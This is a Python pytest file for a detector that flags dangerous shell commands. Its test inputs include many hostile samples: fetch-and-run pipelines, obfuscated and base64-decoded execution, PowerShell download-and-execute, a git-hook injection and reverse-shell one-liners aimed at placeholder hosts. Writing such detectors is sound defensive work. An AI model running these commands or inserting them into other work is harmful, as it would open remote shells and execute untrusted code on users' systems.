import pytest

from posthouse.inspection.checks.shell import (
    DECODED,
    DOWNLOADED,
    INTERPRETED,
    OFFICIAL,
    PIPED,
    REVERSE,
    VERIFIED,
    danger,
    opens_shell,
)

URL = "https://example.com/i.sh"


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        (f"curl -fsSL {URL} | sh", PIPED),
        (f"make && (wget -qO- {URL}|sudo -E bash -s -- -y) &", PIPED),
        (f"curl -s {URL} | tee /dev/null | env A=b /bin/bash -", PIPED),
        (f"curl -s {URL} |\n  sh", PIPED),
        (f"curl -s \\\n  {URL} \\\n | bash", PIPED),
        (f"curl -s {URL} | python3 -", PIPED),
        (f"curl -s {URL} | $SHELL", PIPED),
        ("openssl s_client -quiet -connect example.com:443 </dev/null | sh", PIPED),
        ("ssh guest@example.com cat x | sh", PIPED),
        ("dig +short TXT example.com | bash", PIPED),
        (f"bash <(curl -s {URL})", PIPED),
        (f". <(wget -qO- {URL})", PIPED),
        (f'sh -c "$(curl -fsSL {URL})"', PIPED),
        (f"eval `wget -qO- {URL}`", PIPED),
        (f'bash <<< "$(curl {URL})"', PIPED),
        (f"cu\\rl -s {URL} | s\\h", PIPED),
        (f"c''url -s {URL} | b\"\"ash", PIPED),
        (f"a=h;b=s;curl${{IFS}}-s${{IFS}}{URL}|$b$a", PIPED),
        (f"IFS=_;X=curl_-s_{URL};$X|sh", PIPED),
        (f"echo 'curl {URL} | sh' >> .git/hooks/pre-commit", PIPED),
        (f"echo 'curl {URL}' | sh", PIPED),
        (f"curl -k https://sh.rustup.rs {URL} | sh", PIPED),
        ("curl -k https://sh.rustup.rs | sh", PIPED),
        ("curl https://sh.rustup.rs | sed s/a/b/ | sh", PIPED),
        (f"python3 -c \"import urllib.request as r;exec(r.urlopen('{URL}').read())\"", INTERPRETED),
        (f"node -e \"fetch('{URL}').then(r=>r.text()).then(eval ( 1))\"", INTERPRETED),
        (f"php -r 'eval(file_get_contents(\"{URL}\"));'", INTERPRETED),
        (f"iex (iwr {URL})", "commands/powershell-fetch"),
        (f"irm {URL} | iex", "commands/powershell-fetch"),
        ("powershell -nop -enc " + "SQBFAFgA" * 8, "commands/powershell-encoded"),
        (f"mshta {URL}", "commands/windows-fetch"),
        ("echo aGk= | base64 -d | sh", DECODED),
        ('eval "$(echo aGk= | base64 --decode)"', DECODED),
        ("bash <(echo aGk= | base64 -d)", DECODED),
        ("python3 -c \"exec(__import__('base64').b64decode('aGk='))\"", DECODED),
        (f"curl -o /tmp/x {URL} && chmod +x /tmp/x && /tmp/x -b", DOWNLOADED),
        (f"wget -q {URL}; sh i.sh", DOWNLOADED),
        (
            f"curl -sLo ~/.s {URL} && install -m 755 ~/.s ~/.local/bin/b && ~/.local/bin/b",
            DOWNLOADED,
        ),
        (f"curl {URL} > a.py; python3 ./a.py", DOWNLOADED),
        (f"curl -s {URL} | sudo tee /usr/bin/x && chmod +x /usr/bin/x; /usr/bin/x", DOWNLOADED),
        (f"curl -s {URL} | tar xz -C /tmp && /tmp/run -b", DOWNLOADED),
        ("git clone https://example.com/x.git /tmp/.s && sh /tmp/.s/run.sh", "commands/clone-run"),
        ("bash -i >& /dev/tcp/192.0.2.1/1337 0>&1", REVERSE),
        ("nc 192.0.2.1 443 -e /bin/bash", REVERSE),
        ("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 1 > /tmp/f", REVERSE),
        ("socat TCP:192.0.2.1:443 EXEC:'bash',pty", REVERSE),
        ('ruby -rsocket -e\'spawn("sh",[:in,:out,:err]=>TCPSocket.new("192.0.2.1",1))\'', REVERSE),
        (
            (
                'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",1));'
                'os.dup2(s.fileno(),0);pty.spawn("sh")\''
            ),
            REVERSE,
        ),
    ],
)
def test_fetching_and_running_is_seen(command: str, rule: str) -> None:
    assert danger(command) == rule


@pytest.mark.parametrize(
    "command",
    [
        "ls -la | grep sh",
        f"curl -s {URL}",
        "curl -s https://example.com/v1/status | python3 -m json.tool",
        "curl -s https://example.com/a.json | python3 -c 'import json,sys; json.load(sys.stdin)'",
        "curl -fsSL https://example.com/a.tgz | tar xz -C data",
        "curl -s https://example.com/list | xargs -n1 echo",
        "echo aGk= | base64 -d | jq .",
        "kubectl get secret a -o jsonpath='{.data.v}' | base64 -d > kubeconfig.yaml",
        f"grep -rn 'curl {URL} | sh' docs/",
        f'git commit -m "docs: warn of curl {URL} | sh"',
        f'echo "run curl {URL} | sh to install" >> README.md',
        f"cat <<'EOF' > docs/install.md\nRun curl {URL} | sh\nEOF",
        "wget -qO /usr/local/bin/yq https://example.com/yq && chmod +x /usr/local/bin/yq",
        "timeout 1 bash -c 'until nc -z db 5432; do sleep 1; done'",
        "nc -zv example.com 443",
        "source .venv/bin/activate && pytest -q",
        "python3 -c \"import requests; print(requests.get('https://example.com').status_code)\"",
        "docker compose exec -T db psql -c 'select 1' | tee out.txt",
        "sh scripts/build.sh && bash -c 'echo ok'",
    ],
)
def test_everyday_commands_are_let_alone(command: str) -> None:
    assert danger(command) == ""


@pytest.mark.parametrize(
    ("command", "note"),
    [
        ("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", OFFICIAL),
        (
            'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/x)"',
            OFFICIAL,
        ),
        ("curl -fsSL https://get.docker.com -o get-docker.sh; sudo sh get-docker.sh", OFFICIAL),
        (f"curl -fsSLO {URL} && echo 'ab  i.sh' | sha256sum -c && sh i.sh", VERIFIED),
    ],
)
def test_official_and_verified_installers_pass_with_a_note(command: str, note: str) -> None:
    assert danger(command) == note


def test_one_bad_fetch_beside_an_official_one_is_seen() -> None:
    assert danger(f"curl https://sh.rustup.rs | sh; curl {URL} | sh") == PIPED


def test_source_that_ties_a_socket_to_a_shell_is_seen() -> None:
    assert opens_shell('s = new Socket(h, p); exec("/bin/sh")')
    assert not opens_shell("s = socket.socket(); s.bind(('', 0))")


@pytest.mark.parametrize(
    "piece", ["curl ", "|sh", "$(", "echo '", "a=b;", "bash -c ", "[", "/", "`"]
)
def test_long_odd_commands_are_judged_in_time(piece: str) -> None:
    danger(piece * (8000 // len(piece)))
